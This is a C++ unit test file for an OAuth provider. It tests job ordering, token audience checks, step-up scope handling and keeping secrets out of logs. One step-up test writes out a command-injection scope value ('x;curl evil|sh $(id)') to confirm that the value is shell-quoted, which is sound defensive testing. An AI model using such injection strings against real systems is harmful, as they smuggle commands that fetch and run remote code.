// SPDX-License-Identifier: Apache-2.0
// The OAuth provider's C-facing operations (provider.cpp): the job queue, apply, step-up, secrecy.
#include "provider_fixtures.hpp"

using namespace fracta::test;
using namespace fracta::test::oauth;

// ---- one job at a time --------------------------------------------------------------------------

TEST_CASE_FIXTURE(refresh_fixture, "jobs: a logout while a refresh is in flight waits for it, and nothing is written back after it") {
  oauth_instance inst(host, "oauth-authcode", R"({"type":"oauth"})");
  host.run();
  host.on("POST", token_url, http_reply::json(200, token_response(new_access, new_refresh)));
  completion_probe refreshed, logged_out;

  SUBCASE("the logout arrives while the refresh re-reads the store") {
    const int reads = host.op_count("get tokens");
    REQUIRE(inst.refresh(refreshed) == FRACTA_PENDING);
    REQUIRE(host.op_count("get tokens") == reads + 1);  // suspended on its store read
    REQUIRE(inst.logout(logged_out) == FRACTA_PENDING);
    host.run();
  }
  SUBCASE("the logout arrives while the token request is out") {
    host.hold("POST", token_url);
    REQUIRE(inst.refresh(refreshed) == FRACTA_PENDING);
    host.run();
    REQUIRE(host.sent("POST", token_url).size() == 1);
    REQUIRE(inst.logout(logged_out) == FRACTA_PENDING);
    host.run();
    CHECK(logged_out.calls == 0);  // waits for the refresh
    CHECK(host.op_count("erase") == 0);
    host.release();
    host.run();
  }
  REQUIRE(refreshed.calls == 1);
  REQUIRE(logged_out.calls == 1);
  CHECK_MESSAGE(refreshed.status == FRACTA_OK, refreshed.message);
  CHECK(logged_out.status == FRACTA_OK);
  CHECK(host.sent("POST", token_url).size() == 1);
  // The refresh's write came first; the logout's erase is the last word.
  CHECK(host.op_index("done put tokens") < host.op_index("erase tokens"));
  CHECK(host.store.count("tokens") == 0);
  CHECK(inst.authorization().empty());
  CHECK(contains(inst.status_json(), R"("needs_login":true)"));
  check_no_secrets(host, inst, {refreshed.message, logged_out.message});
}

TEST_CASE_FIXTURE(refresh_fixture, "jobs: a refresh that answers after a login started never overwrites the login's tokens") {
  script_login(host);
  host.routes.erase("POST " + token_url);
  host.on("POST", token_url, http_reply::json(200, token_response(new_access, new_refresh)));      // the refresh's
  host.on("POST", token_url, http_reply::json(200, token_response(login_access, login_refresh)));  // the login's
  oauth_instance inst(host, "oauth-authcode", R"({"type":"oauth"})");
  host.run();
  host.hold("POST", token_url);
  completion_probe refreshed, logged_in;
  REQUIRE(inst.refresh(refreshed) == FRACTA_PENDING);
  host.run();
  REQUIRE(host.sent("POST", token_url).size() == 1);
  REQUIRE(inst.login("{}", logged_in) == FRACTA_PENDING);
  host.run();
  CHECK(host.opened_urls.empty());  // the login waits for the refresh
  host.release();
  host.run();
  REQUIRE(refreshed.calls == 1);
  REQUIRE(logged_in.calls == 1);
  CHECK_MESSAGE(refreshed.status == FRACTA_OK, refreshed.message);
  CHECK_MESSAGE(logged_in.status == FRACTA_OK, logged_in.message);
  REQUIRE(host.store.count("tokens") == 1);
  CHECK(json_field(host.store.at("tokens"), "access_token") == login_access);
  CHECK(json_field(host.store.at("tokens"), "refresh_token") == login_refresh);
  CHECK(inst.authorization() == "Bearer " + std::string(login_access));
  check_no_secrets(host, inst, {refreshed.message, logged_in.message});
}

TEST_CASE_FIXTURE(refresh_fixture, "jobs: a refresh asked for before the store was read waits for the read, without polling") {
  host.store["tokens"] = tokens_json(old_access, old_refresh, now_s + 3600);
  oauth_instance inst(host, "oauth-authcode", R"({"type":"oauth"})");
  CHECK(contains(inst.status_json(), R"("loading":true)"));
  CHECK(inst.authorization() == "(status 2)");  // not loaded yet: NEED_REFRESH
  completion_probe done;
  finish(host, inst.refresh(done), done);
  CHECK(done.status == FRACTA_OK);
  CHECK(host.timer_delays.empty());
  CHECK(host.requests.empty());
  CHECK(inst.authorization() == "Bearer " + std::string(old_access));
}

// ---- where a token may go --------------------------------------------------------------------------

TEST_CASE("apply: a token is attached only to requests for the server it was issued for") {
  oauth_fake_host host;
  host.store["tokens"] = tokens_json(old_access, old_refresh, now_s + 3600);
  oauth_instance inst(host, "oauth-authcode", R"({"type":"oauth"})");
  host.run();
  CHECK(inst.authorization_for(mcp_url) == "Bearer " + std::string(old_access));
  CHECK(inst.authorization_for(mcp_url + "?session=1") == "Bearer " + std::string(old_access));
  for (const std::string url : {"https://other-server.example/mcp", "https://mcp.example.com/other",
                                "http://mcp.example.com/mcp", "https://mcp.example.com:8443/mcp", "not a url"}) {
    CAPTURE(url);
    CHECK(inst.authorization_for(url) == "(status " + std::to_string(FRACTA_E_DENIED) + ")");
  }
  fake_request r("POST", "https://other-server.example/mcp", "{}");
  collecting_sink err;
  CHECK(inst.apply(r, err) == FRACTA_E_DENIED);
  CHECK(contains(err.text, "other-server.example"));
  CHECK_FALSE(r.header("Authorization").has_value());
  check_no_secrets(host, inst, {err.text});
}

TEST_CASE("apply: stored tokens issued for another server URL are not used; the server needs a login") {
  oauth_fake_host host;
  static const std::string elsewhere = "https://elsewhere.example/mcp";
  host.base.table().server_url = str(elsewhere);  // the name now points at another server
  host.store["tokens"] = tokens_json(old_access, old_refresh, now_s + 3600);  // resource: mcp.example.com
  oauth_instance inst(host, "oauth-authcode", R"({"type":"oauth"})");
  host.run();
  CHECK(inst.authorization_for(elsewhere).empty());
  CHECK(contains(inst.status_json(), R"("needs_login":true)"));
  CHECK(contains(host.base.log_text(), "issued for another server"));
  completion_probe done;
  finish(host, inst.refresh(done), done);
  CHECK(done.status == FRACTA_E_NEEDS_LOGIN);
  for (const auto& req : host.requests) {
    CHECK_FALSE(contains(req.everything(), old_access));
    CHECK_FALSE(contains(req.everything(), old_refresh));
  }
  CHECK(host.store.count("tokens") == 1);  // not ours to erase
  check_no_secrets(host, inst, {done.message});
}

TEST_CASE("apply: stored tokens from another issuer than the configured one are not used") {
  oauth_fake_host host;
  host.store["tokens"] = tokens_json(old_access, old_refresh, now_s + 3600);  // issuer as.example.com
  oauth_instance inst(host, "oauth-authcode", R"({"type":"oauth","issuer":"https://other-as.example.com"})");
  REQUIRE_MESSAGE(inst.status == FRACTA_OK, inst.error.text);
  host.run();
  CHECK(inst.authorization().empty());
  CHECK(contains(inst.status_json(), R"("needs_login":true)"));
  CHECK(contains(host.base.log_text(), "configured issuer"));
  check_no_secrets(host, inst);
}

TEST_CASE("create: an inline refresh_token without issuer or metadata_url is a config error naming the key") {
  oauth_fake_host host;
  oauth_instance inst(host, "oauth-authcode",
                      R"({"type":"oauth","access_token":{"value":"inline-access-SECRET"},)"
                      R"("refresh_token":{"value":"inline-refresh-SECRET"}})");
  CHECK(inst.status == FRACTA_E_CONFIG);
  CHECK(contains(inst.error.text, "refresh_token"));
  CHECK(contains(inst.error.text, "issuer"));
  CHECK_FALSE(contains(inst.error.text, secret_marker));

  oauth_instance bad_issuer(host, "oauth-authcode", R"({"type":"oauth","issuer":"http://as.example.com"})");
  CHECK(bad_issuer.status == FRACTA_E_CONFIG);
  CHECK(contains(bad_issuer.error.text, "issuer"));
}

// ---- step-up ------------------------------------------------------------------------------------

TEST_CASE("step-up: authcode asks for a login with the union of scopes, and never loops") {
  oauth_fake_host host;
  host.store["tokens"] = tokens_json(old_access, old_refresh, now_s + 3600, "a");
  oauth_instance inst(host, "oauth-authcode", R"({"type":"oauth"})");
  host.run();
  REQUIRE(inst.authorization() == "Bearer " + std::string(old_access));

  completion_probe first;
  finish(host, inst.on_challenge(403, R"(Bearer error="insufficient_scope", scope="a b")", first), first);
  CHECK(first.status == FRACTA_E_NEEDS_LOGIN);
  CHECK(contains(first.message, login_cmd + " --scope a --scope b"));

  completion_probe second;
  finish(host, inst.on_challenge(403, R"(Bearer error="insufficient_scope", scope="a")", second), second);
  CHECK(second.status == FRACTA_E_DENIED);
  CHECK_FALSE(contains(second.message, "--scope"));

  CHECK(host.requests.empty());  // neither a refresh nor a login was attempted
  CHECK(host.opened_urls.empty());
  CHECK(host.op_count("put") + host.op_count("erase") == 0);
  check_no_secrets(host, inst, {first.message, second.message});
}

TEST_CASE("step-up: the new login asks for what was asked for before as well as what the challenge names") {
  oauth_fake_host host;
  // Asked for "a c", granted only "a"; the server now wants "b".
  std::string stored = tokens_json(old_access, old_refresh, now_s + 3600, "a");
  const std::string requested = R"("requested_scope":"a")";
  stored.replace(stored.find(requested), requested.size(), R"("requested_scope":"a c")");
  host.store["tokens"] = stored;
  oauth_instance inst(host, "oauth-authcode", R"({"type":"oauth"})");
  host.run();
  REQUIRE(inst.authorization() == "Bearer " + std::string(old_access));

  completion_probe challenged;
  finish(host, inst.on_challenge(403, R"(Bearer error="insufficient_scope", scope="b")", challenged), challenged);
  CHECK(challenged.status == FRACTA_E_NEEDS_LOGIN);
  CHECK(contains(challenged.message, login_cmd + " --scope a --scope c --scope b"));
  CHECK(host.requests.empty());
}

TEST_CASE("step-up: server scopes reach the login command only as valid scope tokens, quoted for the shell") {
  oauth_fake_host host;
  host.store["tokens"] = tokens_json(old_access, old_refresh, now_s + 3600, "a");
  oauth_instance inst(host, "oauth-authcode", R"({"type":"oauth"})");
  host.run();

  completion_probe quoted;
  finish(host, inst.on_challenge(403, R"(Bearer error="insufficient_scope", scope="x;curl evil|sh $(id) it's")", quoted),
         quoted);
  CHECK(quoted.status == FRACTA_E_NEEDS_LOGIN);
  CHECK(contains(quoted.message, login_cmd + " --scope a --scope 'x;curl' --scope 'evil|sh' --scope '$(id)' --scope 'it'\\''s'"));
  CHECK_FALSE(contains(quoted.message, "--scope x;curl"));

  completion_probe refused;
  finish(host, inst.on_challenge(403, "Bearer error=\"insufficient_scope\", scope=\"read \\\"write\\\"\"", refused), refused);
  CHECK(refused.status == FRACTA_E_DENIED);
  CHECK(contains(refused.message, "not a valid OAuth scope token"));
  CHECK_FALSE(contains(refused.message, "--scope"));
  CHECK(host.requests.empty());
}

TEST_CASE("step-up: client credentials fetch a token for the union of scopes, then stop") {
  oauth_fake_host host;
  script_discovery(host);
  host.on("POST", token_url, http_reply::json(200, token_response(login_access, "", R"(,"scope":"a")")));
  host.on("POST", token_url, http_reply::json(200, token_response(new_access)));
  oauth_instance inst(host, "oauth-client-credentials",
                      R"({"type":"oauth","grant_type":"client_credentials","scopes":["a"],)"
                      R"("client_id":{"value":"cc-client"},"client_secret":{"value":"client-secret-SECRET-7"}})");
  REQUIRE_MESSAGE(inst.status == FRACTA_OK, inst.error.text);
  CHECK(inst.authorization() == "(status 2)");
  completion_probe fetched;
  finish(host, inst.refresh(fetched), fetched);
  REQUIRE_MESSAGE(fetched.status == FRACTA_OK, fetched.message);
  CHECK(inst.authorization() == "Bearer " + std::string(login_access));

  completion_probe challenged;
  CHECK(inst.on_challenge(403, R"(Bearer error="insufficient_scope", scope="b")", challenged) == FRACTA_NEED_REFRESH);
  host.run();
  CHECK(challenged.calls == 0);  // a final status, not a completion

  completion_probe stepped;
  finish(host, inst.refresh(stepped), stepped);
  REQUIRE_MESSAGE(stepped.status == FRACTA_OK, stepped.message);
  const auto tok = host.sent("POST", token_url);
  REQUIRE(tok.size() == 2);
  CHECK(param(form_params(tok[0].body), "scope") == "a");
  CHECK(param(form_params(tok[1].body), "scope") == "a b");
  CHECK(inst.authorization() == "Bearer " + std::string(new_access));

  // The new token holds "a b"; the server still says insufficient_scope: stop.
  completion_probe again;
  finish(host, inst.on_challenge(403, R"(Bearer error="insufficient_scope", scope="b")", again), again);
  CHECK(again.status == FRACTA_E_DENIED);
  CHECK(host.sent("POST", token_url).size() == 2);
  CHECK(host.op_count("put") == 0);  // client-credentials tokens are never stored
  check_no_secrets(host, inst, {fetched.message, stepped.message, again.message});
}

// ---- secrets ------------------------------------------------------------------------------------

TEST_CASE("secrets: a confidential client's login, refresh and failures never log a secret") {
  oauth_fake_host host;
  script_discovery(host, as_metadata(R"(,"token_endpoint_auth_methods_supported":["client_secret_post"])"));
  host.on("POST", token_url, http_reply::json(200, token_response(login_access, login_refresh)));
  host.on("POST", token_url, http_reply::json(200, token_response(new_access, new_refresh)));
  host.on("POST", token_url, http_reply::json(400, R"({"error":"invalid_grant"})"));
  oauth_instance inst(host, "oauth-authcode",
                      R"({"type":"oauth","client_id":{"value":"conf-client"},)"
                      R"("client_secret":{"value":"client-secret-SECRET-7"}})");
  REQUIRE_MESSAGE(inst.status == FRACTA_OK, inst.error.text);
  host.run();
  std::vector<std::string> messages;

  completion_probe logged_in;
  finish(host, inst.login(R"({"scopes":["a"]})", logged_in), logged_in);
  REQUIRE_MESSAGE(logged_in.status == FRACTA_OK, logged_in.message);
  messages.push_back(logged_in.message);
  const auto tok = host.sent("POST", token_url);
  REQUIRE(tok.size() == 1);
  CHECK(param(form_params(tok[0].body), "client_secret") == client_secret);  // client_secret_post
  CHECK_FALSE(tok[0].header("Authorization").has_value());
  CHECK(host.sent("POST", register_url).empty());  // a configured client is not registered
  CHECK(contains(inst.status_json(), R"("client":"configured")"));

  host.store_fail["put tokens"] = FRACTA_E_UNAVAILABLE;  // the warning path must not quote the tokens
  host.base.wall_ms += 7200 * 1000;
  completion_probe refreshed;
  finish(host, inst.refresh(refreshed), refreshed);
  CHECK(refreshed.status == FRACTA_OK);
  messages.push_back(refreshed.message);
  CHECK(inst.authorization() == "Bearer " + std::string(new_access));

  host.base.wall_ms += 7200 * 1000;
  completion_probe dead;
  finish(host, inst.refresh(dead), dead);
  CHECK(dead.status == FRACTA_E_NEEDS_LOGIN);
  messages.push_back(dead.message);

  CHECK(host.op_count("put tokens") == 2);
  CHECK(contains(host.base.log_text(), "could not store"));  // the injected failure was logged
  check_no_secrets(host, inst, messages);
  for (const auto& [level, line] : host.base.logs) {
    CHECK_FALSE(contains(line, "conf-client:"));
    CHECK_FALSE(contains(line, "the-code"));
  }
}
